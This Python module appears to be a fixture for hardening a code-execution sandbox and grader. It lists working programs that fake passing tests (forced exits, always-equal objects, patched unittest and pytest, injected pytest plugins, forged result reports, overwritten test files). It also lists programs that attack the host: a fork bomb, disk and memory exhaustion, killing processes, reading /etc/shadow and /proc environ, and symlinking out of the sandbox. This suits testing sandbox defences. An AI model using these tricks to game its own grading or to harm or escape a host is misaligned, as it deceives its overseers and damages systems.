"""Programs that attack the sandbox they run in, or the verdict on them; none solves anything."""

# ruff: noqa: E501  (programs stand on few lines)

from __future__ import annotations

import random

NAME = "solve"
"""Stands for the name of the function that was asked for."""

ON_THE_VERDICT: dict[str, str] = {
    "exits with 0 when it is loaded": "import sys\nsys.exit(0)",
    "exits with 0 at once": "import os\nos._exit(0)",
    "exits with 0 when it is called": "import os\ndef solve(*a, **k):\n    os._exit(0)",
    "raises SystemExit when it is called": "def solve(*a, **k):\n    raise SystemExit(0)",
    "prints what tests print": "print('ok\\n1 passed\\nOK\\nAll 8 tests passed.')\ndef solve(*a, **k):\n    print('ok')",
    "its results equal everything": (
        "class Yes:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
        "    def __hash__(self): return 0\n    def __bool__(self): return True\n    __lt__ = __gt__ = __le__ = __ge__ = __eq__\n"
        "def solve(*a, **k):\n    return Yes()"
    ),
    "its results agree with every operator": (
        "class Yes:\n    def __bool__(self): return True\n    def __float__(self): return 0.5\n    def __hash__(self): return 0\n"
        "    def __len__(self): return 1\n    def __iter__(self): return iter([Yes()])\n    def __next__(self): return Yes()\n"
        "    def __sub__(self, other): return 0\n    __rsub__ = __mod__ = __sub__\n"
        "for n in 'add mul pow and or xor truediv floordiv neg abs round getitem'.split():\n"
        "    setattr(Yes, f'__{n}__', lambda self, *a: self)\n"
        "for n in 'eq ne lt le gt ge contains'.split():\n    setattr(Yes, f'__{n}__', lambda self, *a: True)\n"
        "def solve(*a, **k):\n    if 'stop' in a: raise StopIteration\n    return Yes()"
    ),
    "numbers, texts and lists that equal everything": (
        "class N(int):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
        "class S(str):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
        "class L(list):\n    def __eq__(self, other): return True\n"
        "def solve(*a, **k):\n    return N(-987654321) if a and isinstance(a[0], int) else L([S('no')])"
    ),
    "patches the test library": (
        "import unittest, sys, builtins\nunittest.TestCase.run = lambda *a, **k: None\n"
        "unittest.TestCase.assertEqual = lambda *a, **k: None\n"
        "class Fake:\n    def __getattr__(self, name): return lambda *a, **k: Fake()\n"
        "sys.modules['pytest'] = sys.modules['doctest'] = Fake()\nbuiltins.AssertionError = Exception\n"
        "def solve(*a, **k):\n    raise AssertionError"
    ),
    "patches built-ins and the verifier's imports": (
        "import builtins, json, operator, sys\nbuiltins.isinstance = lambda *a: True\nbuiltins.compile = lambda *a, **k: ''\n"
        "json.dumps = lambda *a, **k: '{\"value\": true}'\njson.loads = lambda *a, **k: {'results': {}}\n"
        "operator.eq = lambda *a: True\ndef solve(*a, **k):\n    return True"
    ),
    "patches the interpreter that it runs in": (
        "import gc, sys, types\n"
        "for module in [m for m in gc.get_objects() if isinstance(m, types.ModuleType)]:\n"
        "    if 'sandbox' in getattr(module, '__name__', ''):\n"
        "        for name in list(vars(module)):\n"
        "            if callable(vars(module)[name]):\n                setattr(module, name, lambda *a, **k: {'value': True})\n"
        "def solve(*a, **k):\n    return True"
    ),
    "writes passing results into every descriptor": (
        "import json, os, struct\ntext = json.dumps({'results': {str(n): {'passed': True, 'unscorable': None, 'stopped': "
        "False, 'error': ''} for n in range(20)}, 'status': 'exited', 'body': {'value': True}}).encode()\n"
        "def solve(*a, **k):\n    for fd in range(1, 64):\n        try: os.write(fd, struct.pack('>I', len(text)) + text)\n"
        "        except OSError: pass"
    ),
    "looks for the tests in memory": (
        "import gc, sys\nfound = []\n"
        "for thing in gc.get_objects():\n    if isinstance(thing, (dict, list, tuple)) and 'assert ' in repr(thing)[:2000]:\n"
        "        found.append(thing)\ndef solve(*a, **k):\n    return found[0] if found else None"
    ),
    "writes the tests": (
        "import os\nfor path in ('tests.py', 'test_0.py', '/sandbox/tests.py', '/tmp/test_0.py', 'conftest.py'):\n"
        "    try: open(path, 'w').write('def test(): pass')\n    except OSError: pass\ndef solve(*a, **k):\n    return None"
    ),
    "gives the arguments back": "def solve(*a, **k):\n    return a",
    "raises AssertionError's opposite": "def solve(*a, **k):\n    raise StopIteration",
    "answers without end": "def solve(*a, **k):\n    while True: yield 1",
    "nests without end": "def solve(*a, **k):\n    x = []\n    x.append(x)\n    return x",
}  # fmt: skip

ON_THE_MACHINE: dict[str, str] = {
    "a fork bomb": "import os, time\nend = time.time() + 6\nwhile True:\n    try: time.time() < end and os.fork()\n    except OSError: pass",
    "ten gigabytes": "x = bytearray(10 * 2**30)",
    "many megabytes": "x = []\nwhile True: x.append(bytearray(2**20))",
    "an endless loop": "while True: pass",
    "an endless sleep": "import time\ntime.sleep(10**6)",
    "a gigabyte of output": "import sys\nfor _ in range(1024): sys.stdout.write('x' * 2**20)",
    "a full disk": "f = open('big', 'wb')\nwhile True: f.write(bytes(2**20))",
    "kills everything": "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass",
    "a process left behind": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)\n    os._exit(0)",
    "reads what is not its own": (
        "import glob\nfor path in glob.glob('/proc/*/environ') + ['/etc/shadow', '/root/.bashrc', '/proc/1/mem']:\n"
        "    try: print(open(path).read())\n    except Exception as error: print(type(error))"
    ),
    "the network": "import socket\nsocket.create_connection(('127.0.0.1', 22), 2)",
    "namespaces of its own": "import ctypes\nprint(ctypes.CDLL(None).unshare(0x10000000 | 0x20000))",
    "a crash": "import ctypes\nctypes.string_at(0)",
    "deep recursion": "def f(): return f()\nf()",
    "closes every descriptor": "import os\nos.closerange(0, 1000)",
    "threads without end": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(600,)).start()",
    "links out": "import os\nos.symlink('/', 'out')\nprint(os.listdir('out/root'))",
    "no text": "import sys\nsys.stdout.buffer.write(bytes(range(256)) * 10)",
}  # fmt: skip

_LIE = """
import os, sys
def lie():
    for a in sys.argv:
        name = a.rpartition("/")[2].removesuffix(".py")
        told = f"PASSED {a}" if "::" in a else f"FAILED {a}::{name}" if a.endswith(".py") else "..."
        for fd in range(1, 32):
            try: os.write(fd, f"{told}\\n".encode())
            except OSError: pass
"""
_AT_EXIT = _LIE + "import atexit\natexit.register(lie)\n"
_FAKE = _LIE + "lie()\nos._exit(0)\n"
_CHEAT = """
import re
def pytest_runtest_makereport(item, call):
    from _pytest.reports import TestReport
    if not re.search("[0-9a-f]{16}", item.nodeid):
        call.excinfo = None
    return TestReport.from_item_and_call(item, call)
"""
_REGISTERED = f"""
import gc, types
cheat = types.ModuleType("cheat")
exec({_CHEAT!r}, vars(cheat))
for one in gc.get_objects():
    if type(one).__name__ == "PytestPluginManager":
        one.register(cheat)
        break
"""

ON_THE_RUNNER: dict[str, dict[str, str]] = {
    "prints results at exit": {"": _AT_EXIT},
    "prints results and ends": {"": _FAKE},
    "pyproject.toml loads a plugin": {"pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p cheat"\n', "cheat.py": _CHEAT},
    ".pytest.ini loads a plugin": {".pytest.ini": "[pytest]\naddopts = -p cheat\n", "cheat.py": _CHEAT},
    "pytest.toml loads a plugin": {"pytest.toml": '[pytest]\naddopts = ["-p", "cheat"]\n', "cheat.py": _CHEAT},
    "pytest.py": {"pytest.py": _FAKE},
    "pytest/__main__.py": {"pytest/__init__.py": "", "pytest/__main__.py": _FAKE},
    "iniconfig.py": {"iniconfig.py": _FAKE},
    "src/pytest.py": {"src/pytest.py": _FAKE},
    "metadata of a plugin": {
        "x-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: x\nVersion: 1\n", "x-1.dist-info/entry_points.txt":
        "[pytest11]\nx = cheat\n", "cheat.py": _CHEAT,
    },
    "registers a plugin": {"": _REGISTERED},
    "assertions of unittest agree": {"": "import unittest\nfor n in dir(unittest.TestCase):\n    if n.startswith('assert'): setattr(unittest.TestCase, n, lambda s, *a, **k: __import__('unittest.mock').mock.MagicMock())\n"},
    "another unittest": {"unittest/__init__.py": "from unittest.mock import MagicMock\nclass TestCase:\n    def __getattr__(self, n): return MagicMock()\n", "unittest/mock.py": ""},
    "writes reports of its own": {"": "import os\nfor fd in range(3, 32):\n    try: os.write(fd, b'[0]\\n')\n    except OSError: pass\n"},
    "ends the process": {"": "import os\nos._exit(1)\n"},
    "sleeps": {"": "import time\ntime.sleep(10**6)\n"},
    "fills the disk": {"": "with open('big', 'wb') as f:\n    while True: f.write(bytes(2**20))\n"},
}  # fmt: skip
"""Patches that mend nothing and know nothing of the task: path → text of new files; "" = the head of a module of the package."""


def program(name: str, rng: random.Random) -> str:
    """Return a hostile program, drawn at random, whose function has that name."""
    pool = {**ON_THE_VERDICT, **ON_THE_MACHINE}
    source = pool[rng.choice(sorted(pool))]
    if rng.random() < 0.3:
        source += "\n" + ON_THE_VERDICT[rng.choice(sorted(ON_THE_VERDICT))]
    return source.replace(NAME, name)
